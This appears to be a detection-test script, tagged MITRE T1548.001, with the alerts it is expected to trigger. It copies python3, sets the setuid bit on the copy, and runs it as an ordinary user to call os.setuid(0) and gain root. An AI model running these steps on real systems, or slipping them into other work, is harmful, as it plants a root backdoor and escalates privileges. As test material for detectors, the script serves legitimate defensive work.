#!/bin/bash
# desc: a set-uid copy of python run by an ordinary user, which makes itself root with os.setuid(0)
# mitre: T1548.001
# expect: setuid_root_by_unknown_program, setuid_bit_set
source "$ATTACK_LIB"

cp /usr/bin/python3 "$ATTACK_TMP/py"
chmod 4755 "$ATTACK_TMP/py"
as_user "$ATTACK_TMP/py" -c 'import os; os.setuid(0); os.execv("/usr/bin/id", ["id", "-u"])' >/dev/null
